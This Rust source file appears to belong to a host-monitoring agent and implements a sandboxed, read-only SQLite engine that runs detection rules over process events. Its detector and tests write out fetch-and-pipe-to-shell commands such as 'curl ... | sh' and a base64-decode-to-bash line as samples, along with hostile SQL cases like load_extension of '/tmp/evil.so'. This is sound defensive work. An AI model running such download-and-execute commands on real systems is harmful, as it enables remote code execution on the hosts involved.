//! Running rules: every rule over a batch of processes, read-only, bounded.
//!
//! The engine owns an in-memory SQLite database with one table,
//! `processes`. For each batch it fills the table with the batch's rows
//! (as itself, with full rights, on its own connection) and then runs every
//! rule on one of up to [`MAX_RULE_THREADS`] connections opened read-only,
//! one thread each, under an authorizer that allows only reading: a rule
//! cannot write, `ATTACH`, run a `PRAGMA` or load an extension, and each
//! rule is interrupted after [`RULE_TIME_LIMIT`]. Rules never see the
//! agent's own store.
//!
//! # The `processes` table
//!
//! Its columns are [`COLUMNS`]: names, types and meanings are those of the
//! one SQL vocabulary over processes ([`collector_core::vocabulary::PROCESS`]),
//! the same as in the store and in trigger conditions;
//! `daemoneye-cli rules columns` lists them. Times are unix nanoseconds,
//! booleans 0/1, `argv` a JSON array.

use std::num::NonZeroUsize;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, LazyLock, Mutex, PoisonError};
use std::time::{Duration, SystemTime};

use collector_core::metrics::{Counter, Registry};
use collector_core::vocabulary::process_column;
use collector_core::ProcessEvent;
use rusqlite::{params, Connection, OpenFlags};
use serde::Serialize;
use tokio::time::Instant;

use daemoneye_store::readonly::{read_only_authorizer, Denied};

use crate::rules::{Rule, RuleError};

/// The longest one rule may run over one batch.
pub const RULE_TIME_LIMIT: Duration = Duration::from_millis(250);

/// The columns of the rules' `processes` table, names and types from the
/// one SQL vocabulary ([`collector_core::vocabulary::PROCESS`]), in table
/// order: the columns rules test most come first, since SQLite walks each
/// row's record up to the columns a statement reads. [`RuleEngine`] binds a
/// row's values in this order.
pub const COLUMNS: [&str; 25] = [
    "event_type",
    "name",
    "exe_name",
    "exe_dir",
    "exe",
    "cmdline",
    "pipes_to_interpreter",
    "parent_name",
    "uid",
    "euid",
    "exe_deleted",
    "exe_replaced",
    "file_exists",
    "accessible",
    "exe_dir_user_writable",
    "pid",
    "process_key",
    "ppid",
    "start_time",
    "observed_at",
    "parent_exe",
    "parent_cmdline",
    "exe_hash",
    "container_id",
    "argv",
];

// With case-sensitive LIKE, prefix patterns (`exe LIKE '/tmp/%'`), IN lists
// and equalities become index lookups instead of scans of the batch.
// The flags are rarely set: partial indexes hold only the rows that have
// them, so filling them costs almost nothing, and `flag = 1` is a lookup.
const INDEXES: &str = "
CREATE INDEX processes_exe ON processes (exe);
CREATE INDEX processes_name ON processes (name);
CREATE INDEX processes_exe_name ON processes (exe_name);
CREATE INDEX processes_parent_name ON processes (parent_name);
CREATE INDEX processes_event_type ON processes (event_type);
CREATE INDEX processes_deleted ON processes (exe_deleted) WHERE exe_deleted = 1;
CREATE INDEX processes_pipes ON processes (pipes_to_interpreter) WHERE pipes_to_interpreter = 1;
CREATE INDEX processes_dir_writable ON processes (exe_dir_user_writable) WHERE exe_dir_user_writable = 1;";

/// `CREATE TABLE processes (...)` and its indexes, from [`COLUMNS`].
static SCHEMA: LazyLock<String> = LazyLock::new(schema);
/// The insert of one row, binding [`COLUMNS`] in order.
static INSERT: LazyLock<String> = LazyLock::new(insert_sql);

fn schema() -> String {
    let columns: Vec<String> = COLUMNS
        .iter()
        .map(|name| {
            let ty = process_column(name).map_or("ANY", |c| c.ty.sqlite());
            format!("{name} {ty}")
        })
        .collect();
    format!("CREATE TABLE processes ({});{INDEXES}", columns.join(", "))
}

fn insert_sql() -> String {
    let marks: Vec<String> = (1..=COLUMNS.len()).map(|i| format!("?{i}")).collect();
    format!(
        "INSERT INTO processes ({}) VALUES ({})",
        COLUMNS.join(", "),
        marks.join(", ")
    )
}

/// One process as the rules see it (its fields are the table's columns, so
/// the flags stay plain bools).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
#[allow(clippy::struct_excessive_bools)]
pub struct ProcessRow {
    /// `boot_id:pid:start_ticks`.
    pub process_key: Option<String>,
    /// Process id.
    pub pid: u32,
    /// Parent id.
    pub ppid: Option<u32>,
    /// `comm`.
    pub name: String,
    /// Executable path.
    pub exe: Option<String>,
    /// Arguments.
    pub argv: Vec<String>,
    /// Real uid.
    pub uid: Option<u32>,
    /// Effective uid.
    pub euid: Option<u32>,
    /// Start, unix ns.
    pub start_time: Option<i64>,
    /// Observation time, unix ns.
    pub observed_at: Option<i64>,
    /// The executable was deleted while running.
    pub exe_deleted: bool,
    /// The file at the executable's path is not the one running.
    pub exe_replaced: bool,
    /// The executable exists on disk.
    pub file_exists: bool,
    /// Everything about the process could be read.
    pub accessible: bool,
    /// The executable's directory is writable by a non-root user.
    pub exe_dir_user_writable: Option<bool>,
    /// The parent's `comm`.
    pub parent_name: Option<String>,
    /// The parent's executable.
    pub parent_exe: Option<String>,
    /// The parent's argv, joined.
    pub parent_cmdline: Option<String>,
    /// What the event reported (`exec`, `snapshot`, ...).
    pub event_type: String,
    /// SHA-256 of the executable.
    pub exe_hash: Option<String>,
    /// Container id.
    pub container_id: Option<String>,
}

fn unix_ns(t: SystemTime) -> Option<i64> {
    i64::try_from(t.duration_since(SystemTime::UNIX_EPOCH).ok()?.as_nanos()).ok()
}

impl ProcessRow {
    /// The row for `e`, with what is known of its parent.
    pub fn from_event(
        e: &ProcessEvent,
        parent: Option<&ProcessEvent>,
        exe_dir_user_writable: Option<bool>,
    ) -> Self {
        Self {
            process_key: e.process_key.map(|k| k.to_string()),
            pid: e.pid,
            ppid: e.ppid,
            name: e.name.clone(),
            exe: e.executable_path.clone(),
            argv: e.command_line.clone(),
            uid: e.user_id,
            euid: e.euid,
            start_time: e.start_time.and_then(unix_ns),
            observed_at: unix_ns(e.timestamp),
            exe_deleted: (!e.file_exists && e.executable_path.is_some())
                || e.event_type == collector_core::ProcessEventType::ExecutableDeleted,
            exe_replaced: e.exe_replaced,
            file_exists: e.file_exists,
            accessible: e.accessible,
            exe_dir_user_writable,
            parent_name: parent.map(|p| p.name.clone()),
            parent_exe: parent.and_then(|p| p.executable_path.clone()),
            parent_cmdline: parent.map(|p| p.command_line.join(" ")),
            event_type: e.event_type.as_str().to_owned(),
            exe_hash: e.executable_hash.clone(),
            container_id: e.context.container_id.clone(),
        }
    }
}

/// A rule matched a process.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Match {
    /// The rule.
    pub rule_id: String,
    /// The process's pid (from the rule's `pid` column).
    pub pid: u32,
    /// The process's key, when the rule returned `process_key`.
    pub process_key: Option<String>,
}

/// The engine itself failed (not a rule).
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum EngineError {
    /// SQLite failed outside any rule.
    #[error("rule engine database error")]
    Sqlite(#[from] rusqlite::Error),
}

/// Counters of the engine (the workspace's one counter type: readable at
/// any time, and in `/metrics` once [`register`](Self::register)ed).
#[derive(Debug, Default)]
pub struct EngineStats {
    /// Batches evaluated.
    pub batches: Counter,
    /// Rule runs.
    pub rule_runs: Counter,
    /// Matches found.
    pub matches: Counter,
    /// Rule runs that failed (error or time limit).
    pub rule_failures: Counter,
    /// Rule runs interrupted at the time limit.
    pub rule_timeouts: Counter,
}

impl EngineStats {
    /// Names the counters in `registry` (`daemoneye_rule_runs_total`, ...).
    pub fn register(&self, registry: &Registry) {
        registry.register_counters(
            &[],
            &[
                (
                    "daemoneye_rule_batches_total",
                    "Batches of processes the rules judged.",
                    &self.batches,
                ),
                ("daemoneye_rule_runs_total", "Rule runs.", &self.rule_runs),
                (
                    "daemoneye_rule_matches_total",
                    "Processes rules matched.",
                    &self.matches,
                ),
                (
                    "daemoneye_rule_failures_total",
                    "Rule runs that failed (an error or the time limit); the rule was skipped.",
                    &self.rule_failures,
                ),
                (
                    "daemoneye_rule_timeouts_total",
                    "Rule runs interrupted at the time limit.",
                    &self.rule_timeouts,
                ),
            ],
        );
    }
}

fn open_schema() -> Result<Connection, rusqlite::Error> {
    let conn = Connection::open_in_memory()?;
    // Paths and command lines are case-sensitive, and so is LIKE here
    // (several times faster than the default).
    conn.pragma_update(None, "case_sensitive_like", true)?;
    conn.execute_batch(&SCHEMA)?;
    Ok(conn)
}

/// Compiles `rule` first as plain SQL on `plain` (one statement, valid
/// syntax), then against the schema under the read-only authorizer.
fn check_sql(
    plain: &Connection,
    conn: &Connection,
    denied: &Denied,
    rule: &Rule,
) -> Result<(), RuleError> {
    let refuse = |reason: String| RuleError {
        origin: rule.origin.clone(),
        rule: rule.id.clone(),
        reason,
    };
    if let Err(rusqlite::Error::MultipleStatement) = plain.prepare(&rule.sql) {
        return Err(refuse("more than one statement".to_owned()));
    }
    *denied.lock().unwrap_or_else(PoisonError::into_inner) = None;
    let stmt = conn.prepare(&rule.sql).map_err(|e| {
        let what = denied.lock().unwrap_or_else(PoisonError::into_inner).take();
        match (e, what) {
            (_, Some(what)) => refuse(format!("only reading is allowed; refused: {what}")),
            (rusqlite::Error::MultipleStatement, None) => {
                refuse("more than one statement".to_owned())
            }
            (e, None) => refuse(format!("invalid SQL: {e}")),
        }
    })?;
    if !stmt.readonly() {
        return Err(refuse("only reading is allowed".to_owned()));
    }
    if !stmt.column_names().contains(&"pid") {
        return Err(refuse("the SELECT must return a `pid` column".to_owned()));
    }
    Ok(())
}

/// Checks one rule's fields and SQL without running it: the verdict
/// `daemoneye-cli rules validate` gives.
///
/// # Errors
/// Why the rule is refused.
pub fn validate(rule: &Rule) -> Result<(), RuleError> {
    crate::rules::check_fields(rule)?;
    let conn = open_schema().map_err(|e| RuleError {
        origin: rule.origin.clone(),
        rule: rule.id.clone(),
        reason: format!("engine unavailable: {e}"),
    })?;
    let plain = open_schema().map_err(|e| RuleError {
        origin: rule.origin.clone(),
        rule: rule.id.clone(),
        reason: format!("engine unavailable: {e}"),
    })?;
    let denied = Denied::default();
    conn.authorizer(Some(read_only_authorizer(denied.clone())));
    check_sql(&plain, &conn, &denied, rule)
}

/// Most connections (so threads) the rules of one batch run on. Two keeps
/// the agent's footprint small on a busy host and halves a batch's latency
/// where two cores are free.
pub const MAX_RULE_THREADS: usize = 2;

/// Names the shared in-memory database of each engine (`memdb` databases
/// are shared by name within the process).
static ENGINES: AtomicU64 = AtomicU64::new(0);

/// A read-only connection that runs rules, with its own time limit.
struct Reader {
    conn: Connection,
    deadline: Arc<Mutex<Option<Instant>>>,
}

impl Reader {
    /// Opens `path` read-only, forever under the read-only authorizer.
    fn open(path: &str, statements: usize) -> Result<Self, rusqlite::Error> {
        let conn = Connection::open_with_flags_and_vfs(
            path,
            OpenFlags::SQLITE_OPEN_READ_ONLY
                | OpenFlags::SQLITE_OPEN_NO_MUTEX
                | OpenFlags::SQLITE_OPEN_URI,
            "memdb",
        )?;
        conn.pragma_update(None, "case_sensitive_like", true)?;
        // Sorts and temporary b-trees of a rule stay in memory, and the table
        // stays in this connection's page cache across the batch's rules: up
        // to 256 MiB (-KiB), allocated as used; a bigger table is re-read
        // from the shared database, slower but the same.
        conn.pragma_update(None, "temp_store", "MEMORY")?;
        conn.pragma_update(None, "cache_size", -262_144)?;
        conn.set_prepared_statement_cache_capacity(statements);
        conn.authorizer(Some(read_only_authorizer(Denied::default())));
        let deadline: Arc<Mutex<Option<Instant>>> = Arc::default();
        let d = deadline.clone();
        conn.progress_handler(
            1000,
            Some(move || {
                d.lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .is_some_and(|until| Instant::now() >= until)
            }),
        );
        Ok(Self { conn, deadline })
    }

    /// Runs rules `rules[i]`, taking the next `i` from `next` until none is
    /// left: each reader takes work as it frees up.
    fn run(
        &self,
        rules: &[Rule],
        next: &AtomicUsize,
    ) -> Vec<(usize, Result<Vec<Match>, rusqlite::Error>)> {
        let mut out = Vec::new();
        loop {
            let i = next.fetch_add(1, Ordering::Relaxed);
            let Some(rule) = rules.get(i) else { break };
            *self.deadline.lock().unwrap_or_else(PoisonError::into_inner) =
                Some(Instant::now() + RULE_TIME_LIMIT);
            out.push((i, run_rule(&self.conn, rule)));
        }
        *self.deadline.lock().unwrap_or_else(PoisonError::into_inner) = None;
        out
    }
}

/// Runs rules over batches of processes.
///
/// The batch is loaded into an in-memory database shared by name within the
/// process (SQLite's `memdb`), through the engine's own connection; the rules
/// then run on up to [`MAX_RULE_THREADS`] read-only connections to it, one
/// thread each, every rule on its own and whole on one of them.
pub struct RuleEngine {
    loader: Connection,
    readers: Vec<Reader>,
    rules: Vec<Rule>,
    refused: Vec<RuleError>,
    stats: Arc<EngineStats>,
}

impl std::fmt::Debug for RuleEngine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RuleEngine")
            .field("rules", &self.rules.len())
            .field("refused", &self.refused.len())
            .field("readers", &self.readers.len())
            .finish_non_exhaustive()
    }
}

impl RuleEngine {
    /// An engine with every acceptable rule of `rules`; the others are
    /// refused (see [`refused`](Self::refused)), duplicates of an id too.
    ///
    /// # Errors
    /// Only when SQLite itself cannot start.
    pub fn new(rules: Vec<Rule>) -> Result<Self, EngineError> {
        let conn = open_schema()?;
        let plain = open_schema()?;
        let denied = Denied::default();
        conn.authorizer(Some(read_only_authorizer(denied.clone())));
        let mut kept: Vec<Rule> = Vec::with_capacity(rules.len());
        let mut refused = Vec::new();
        for rule in rules {
            let verdict = crate::rules::check_fields(&rule)
                .and_then(|()| check_sql(&plain, &conn, &denied, &rule));
            match verdict {
                Err(e) => refused.push(e),
                Ok(()) if kept.iter().any(|r| r.id == rule.id) => refused.push(RuleError {
                    origin: rule.origin.clone(),
                    rule: rule.id.clone(),
                    reason: "duplicate rule id".to_owned(),
                }),
                Ok(()) => kept.push(rule),
            }
        }
        let path = format!(
            "/daemoneye-rules-{}",
            ENGINES.fetch_add(1, Ordering::Relaxed)
        );
        let loader = Connection::open_with_flags_and_vfs(
            &path,
            OpenFlags::SQLITE_OPEN_READ_WRITE
                | OpenFlags::SQLITE_OPEN_CREATE
                | OpenFlags::SQLITE_OPEN_NO_MUTEX
                | OpenFlags::SQLITE_OPEN_URI,
            "memdb",
        )?;
        // A batch's transaction stays in the cache rather than spilling.
        loader.pragma_update(None, "cache_size", -262_144)?;
        loader.execute_batch(&SCHEMA)?;
        let threads = std::thread::available_parallelism()
            .map_or(1, NonZeroUsize::get)
            .clamp(1, MAX_RULE_THREADS)
            .min(kept.len());
        let mut distinct: Vec<&str> = kept.iter().map(|r| r.sql.as_str()).collect();
        distinct.sort_unstable();
        distinct.dedup();
        let readers = (0..threads)
            .map(|_| Reader::open(&path, distinct.len().max(1)))
            .collect::<Result<_, _>>()?;
        Ok(Self {
            loader,
            readers,
            rules: kept,
            refused,
            stats: Arc::default(),
        })
    }

    /// The rules in force.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// The rules refused at load, with their reasons.
    pub fn refused(&self) -> &[RuleError] {
        &self.refused
    }

    /// The engine's counters, shared: they keep counting.
    pub fn stats(&self) -> Arc<EngineStats> {
        Arc::clone(&self.stats)
    }

    /// Runs every rule over `rows`. A rule that fails or overruns its time
    /// limit is counted and skipped; the others still run. Matches come in
    /// the order of the rules.
    ///
    /// # Errors
    /// Only when the batch cannot be loaded into the engine's database.
    pub fn evaluate(&mut self, rows: &[ProcessRow]) -> Result<Vec<Match>, EngineError> {
        self.load(rows)?;
        self.stats.batches.inc();
        let counter = AtomicUsize::new(0);
        let (rules, next) = (self.rules.as_slice(), &counter);
        let mut results = match self.readers.as_mut_slice() {
            [] => Vec::new(),
            [only] => only.run(rules, next),
            [first, rest @ ..] => std::thread::scope(|s| {
                let helpers: Vec<_> = rest
                    .iter_mut()
                    .filter_map(|reader| {
                        // Without a thread, this reader's share goes to the others.
                        std::thread::Builder::new()
                            .name("daemoneye-rules".to_owned())
                            .spawn_scoped(s, move || reader.run(rules, next))
                            .ok()
                    })
                    .collect();
                let mut all = first.run(rules, next);
                for h in helpers {
                    match h.join() {
                        Ok(found) => all.extend(found),
                        Err(panic) => std::panic::resume_unwind(panic),
                    }
                }
                all
            }),
        };
        results.sort_unstable_by_key(|(i, _)| *i);
        let mut out = Vec::new();
        for (i, result) in results {
            self.stats.rule_runs.inc();
            match result {
                Ok(found) => {
                    self.stats.matches.add_usize(found.len());
                    out.extend(found);
                }
                Err(err) => {
                    self.stats.rule_failures.inc();
                    if matches!(&err, rusqlite::Error::SqliteFailure(e, _) if e.code == rusqlite::ErrorCode::OperationInterrupted)
                    {
                        self.stats.rule_timeouts.inc();
                    }
                    let rule = &self.rules[i].id;
                    tracing::warn!(%rule, error = %err, "rule failed; skipped for this batch");
                }
            }
        }
        Ok(out)
    }

    fn load(&mut self, rows: &[ProcessRow]) -> Result<(), rusqlite::Error> {
        let tx = self.loader.transaction()?;
        tx.execute("DELETE FROM processes", [])?;
        {
            let mut insert = tx.prepare_cached(&INSERT)?;
            // One buffer each for every row's joined and JSON argv.
            let (mut cmdline, mut argv) = (String::new(), Vec::new());
            for r in rows {
                cmdline.clear();
                join_into(&mut cmdline, &r.argv);
                argv.clear();
                if serde_json::to_writer(&mut argv, &r.argv).is_err() {
                    argv.clear();
                    argv.extend_from_slice(b"[]");
                }
                let argv = std::str::from_utf8(&argv).unwrap_or("[]");
                let (exe_name, exe_dir) = match r.exe.as_deref().and_then(|e| e.rsplit_once('/')) {
                    Some((dir, name)) => (Some(name), Some(if dir.is_empty() { "/" } else { dir })),
                    None => (None, None),
                };
                // In the order of `COLUMNS`.
                insert.execute(params![
                    r.event_type,
                    r.name,
                    exe_name,
                    exe_dir,
                    r.exe,
                    cmdline,
                    line_pipes_to_interpreter(&cmdline),
                    r.parent_name,
                    r.uid,
                    r.euid,
                    r.exe_deleted,
                    r.exe_replaced,
                    r.file_exists,
                    r.accessible,
                    r.exe_dir_user_writable,
                    r.pid,
                    r.process_key,
                    r.ppid,
                    r.start_time,
                    r.observed_at,
                    r.parent_exe,
                    r.parent_cmdline,
                    r.exe_hash,
                    r.container_id,
                    argv,
                ])?;
            }
        }
        tx.commit()
    }
}

/// `argv` joined by spaces, appended to `out`.
fn join_into(out: &mut String, argv: &[String]) {
    for (i, a) in argv.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        out.push_str(a);
    }
}

/// Interpreters a downloaded or decoded payload is piped into.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl",
    "ruby", "php", "node",
];

/// Whether a command line pipes into a shell or interpreter: a `|` followed
/// (after `sudo`, `env` and options) by a word whose file name is a shell
/// or interpreter (sh, bash, dash, zsh, ksh, ash, busybox, python, perl,
/// ruby, php, node; `| sh`, `|bash -s`, `| sudo /bin/bash`, `| python3.11 -`).
pub fn pipes_to_interpreter(argv: &[String]) -> bool {
    line_pipes_to_interpreter(&argv.join(" "))
}

/// [`pipes_to_interpreter`] of a command line already joined.
fn line_pipes_to_interpreter(line: &str) -> bool {
    line.split('|').skip(1).any(|segment| {
        segment
            .split_whitespace()
            .find(|w| !matches!(*w, "sudo" | "env" | "-E") && !w.starts_with('-'))
            .map(|w| w.rsplit('/').next().unwrap_or(w))
            .is_some_and(|name| {
                let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                INTERPRETERS.contains(&name) || INTERPRETERS.contains(&base)
            })
    })
}

fn run_rule(conn: &Connection, rule: &Rule) -> Result<Vec<Match>, rusqlite::Error> {
    let mut stmt = conn.prepare_cached(&rule.sql)?;
    let names: Vec<String> = stmt
        .column_names()
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    let pid_at = names.iter().position(|n| n == "pid");
    let key_at = names.iter().position(|n| n == "process_key");
    let mut rows = stmt.query([])?;
    let mut out = Vec::new();
    while let Some(row) = rows.next()? {
        let Some(pid) = pid_at.and_then(|i| row.get::<_, Option<u32>>(i).ok().flatten()) else {
            continue;
        };
        let process_key = key_at.and_then(|i| row.get::<_, Option<String>>(i).ok().flatten());
        out.push(Match {
            rule_id: rule.id.clone(),
            pid,
            process_key,
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;
    use crate::rules::Severity;

    #[test]
    fn the_table_has_the_vocabulary_columns_in_binding_order() {
        let conn = open_schema().unwrap();
        let mut stmt = conn
            .prepare("SELECT name, type FROM pragma_table_info('processes') ORDER BY cid")
            .unwrap();
        let got: Vec<(String, String)> = stmt
            .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(got.len(), COLUMNS.len());
        for ((name, ty), want) in got.iter().zip(COLUMNS) {
            assert_eq!(name, want);
            let v = process_column(want).unwrap_or_else(|| panic!("{want} not in vocabulary"));
            assert_eq!(ty, v.ty.sqlite(), "{want}");
        }
    }

    fn rule(id: &str, sql: &str) -> Rule {
        Rule {
            id: id.to_owned(),
            name: id.to_owned(),
            description: String::new(),
            severity: Severity::High,
            sql: sql.to_owned(),
            tags: Vec::new(),
            mitre: Vec::new(),
            origin: "test.toml".to_owned(),
        }
    }

    #[test]
    fn writes_attach_pragma_extensions_and_stacked_statements_are_refused() {
        let cases = [
            (
                "INSERT INTO processes (pid, name) VALUES (1, 'x')",
                "writing to processes",
            ),
            ("DELETE FROM processes", "writing to processes"),
            ("UPDATE processes SET name = 'x'", "writing to processes"),
            ("ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH"),
            ("PRAGMA writable_schema = 1", "PRAGMA"),
            (
                "SELECT load_extension('/tmp/evil.so') AS pid",
                "load_extension",
            ),
            (
                "SELECT pid FROM processes; DELETE FROM processes",
                "more than one statement",
            ),
            ("DROP TABLE processes", "only reading is allowed"),
            ("SELEC pid FROM processes", "invalid SQL"),
            ("SELECT name FROM processes", "`pid` column"),
            ("SELECT pid FROM nowhere", "invalid SQL"),
        ];
        for (sql, why) in cases {
            let err = validate(&rule("r", sql)).unwrap_err();
            assert!(err.reason.contains(why), "{sql}: {err}");
            assert_eq!((err.origin.as_str(), err.rule.as_str()), ("test.toml", "r"));
        }
        validate(&rule(
            "ok",
            "SELECT pid, name FROM processes WHERE exe LIKE '/tmp/%'",
        ))
        .unwrap();
    }

    #[test]
    fn a_refused_rule_leaves_the_others_running() {
        let mut engine = RuleEngine::new(vec![
            rule("bad", "DELETE FROM processes"),
            rule(
                "tmp",
                "SELECT pid, process_key FROM processes WHERE exe_dir = '/tmp'",
            ),
            rule("tmp", "SELECT pid FROM processes"),
        ])
        .unwrap();
        assert_eq!(engine.rules().len(), 1);
        assert_eq!(engine.refused().len(), 2);
        assert!(engine.refused()[1].reason.contains("duplicate"));
        let rows = [
            ProcessRow {
                pid: 7,
                process_key: Some("k7".into()),
                name: "x".into(),
                exe: Some("/tmp/x".into()),
                ..ProcessRow::default()
            },
            ProcessRow {
                pid: 8,
                name: "ls".into(),
                exe: Some("/usr/bin/ls".into()),
                ..ProcessRow::default()
            },
        ];
        let m = engine.evaluate(&rows).unwrap();
        assert_eq!(
            m,
            vec![Match {
                rule_id: "tmp".into(),
                pid: 7,
                process_key: Some("k7".into())
            }]
        );
        // The table holds only the current batch.
        assert!(engine.evaluate(&rows[1..]).unwrap().is_empty());
    }

    fn rows(pids: std::ops::Range<u32>, exe: &str) -> Vec<ProcessRow> {
        pids.map(|pid| ProcessRow {
            pid,
            name: "x".into(),
            exe: Some(exe.to_owned()),
            argv: vec!["x".into(), "-v".into()],
            ..ProcessRow::default()
        })
        .collect()
    }

    #[test]
    fn matches_come_in_rule_order_whichever_connection_ran_them() {
        // More rules than connections, of uneven cost, so both take several.
        let rules: Vec<Rule> = (0..40)
            .map(|i| {
                let sql = if i % 3 == 0 {
                    format!(
                        "SELECT pid FROM processes WHERE cmdline LIKE '%x -v%' AND pid % 40 = {i}"
                    )
                } else {
                    format!("SELECT pid FROM processes WHERE pid = {}", 1000 + i)
                };
                rule(&format!("r{i:02}"), &sql)
            })
            .collect();
        let mut engine = RuleEngine::new(rules).unwrap();
        assert!(engine.refused().is_empty(), "{:?}", engine.refused());
        let batch = rows(1000..3000, "/usr/bin/x");
        for _ in 0..3 {
            let got: Vec<(String, u32)> = engine
                .evaluate(&batch)
                .unwrap()
                .into_iter()
                .map(|m| (m.rule_id, m.pid))
                .collect();
            let mut want = Vec::new();
            for i in 0..40u32 {
                if i % 3 == 0 {
                    want.extend(
                        (1000..3000)
                            .filter(|p| p % 40 == i)
                            .map(|p| (format!("r{i:02}"), p)),
                    );
                } else {
                    want.push((format!("r{i:02}"), 1000 + i));
                }
            }
            assert_eq!(got, want);
        }
        let s = engine.stats();
        assert_eq!(
            (s.batches.get(), s.rule_runs.get(), s.rule_failures.get()),
            (3, 120, 0)
        );
    }

    #[test]
    fn engines_do_not_share_their_tables() {
        let all = || vec![rule("all", "SELECT pid FROM processes")];
        let (mut a, mut b) = (
            RuleEngine::new(all()).unwrap(),
            RuleEngine::new(all()).unwrap(),
        );
        assert_eq!(a.evaluate(&rows(1..3, "/a")).unwrap().len(), 2);
        assert_eq!(b.evaluate(&rows(10..15, "/b")).unwrap().len(), 5);
        assert_eq!(a.evaluate(&rows(1..2, "/a")).unwrap().len(), 1);
    }

    #[test]
    fn the_rules_connections_cannot_write_even_past_the_authorizer() {
        let engine = RuleEngine::new(vec![
            rule("a", "SELECT pid FROM processes"),
            rule("b", "SELECT pid FROM processes"),
        ])
        .unwrap();
        assert!(!engine.readers.is_empty());
        for reader in &engine.readers {
            // Refused by the authorizer...
            assert!(reader.conn.execute("DELETE FROM processes", []).is_err());
            // ...and, without it, by SQLite: the connection is read-only.
            reader.conn.authorizer(
                None::<fn(rusqlite::hooks::AuthContext<'_>) -> rusqlite::hooks::Authorization>,
            );
            let err = reader
                .conn
                .execute("DELETE FROM processes", [])
                .unwrap_err();
            assert!(
                matches!(&err, rusqlite::Error::SqliteFailure(e, _) if e.code == rusqlite::ErrorCode::ReadOnly),
                "{err}"
            );
        }
    }

    #[test]
    fn pipes_into_interpreters_are_told_from_other_pipes() {
        let yes = |s: &str| pipes_to_interpreter(&[s.to_owned()]);
        for s in [
            "curl -fsSL http://x/i.sh | sh",
            "wget -qO- http://x |bash -s -- --flag",
            "echo aGk= | base64 -d | sudo /bin/bash",
            "curl x | python3.11 -",
            "curl x | env sh",
        ] {
            assert!(yes(s), "{s}");
        }
        for s in [
            "curl -s https://api | jq .sha",
            "cat f | sha256sum",
            "ls | sort | shuf",
            "bash -c 'echo hi'",
        ] {
            assert!(!yes(s), "{s}");
        }
    }

    #[test]
    fn a_runaway_rule_is_interrupted_and_counted() {
        let slow = rule(
            "slow",
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS pid FROM n WHERE i < 0",
        );
        let mut engine =
            RuleEngine::new(vec![slow, rule("all", "SELECT pid FROM processes")]).unwrap();
        let rows = [ProcessRow {
            pid: 1,
            name: "init".into(),
            ..ProcessRow::default()
        }];
        let m = engine.evaluate(&rows).unwrap();
        assert_eq!(m.len(), 1, "the other rule still ran");
        let s = engine.stats();
        assert_eq!((s.rule_failures.get(), s.rule_timeouts.get()), (1, 1));
    }
}
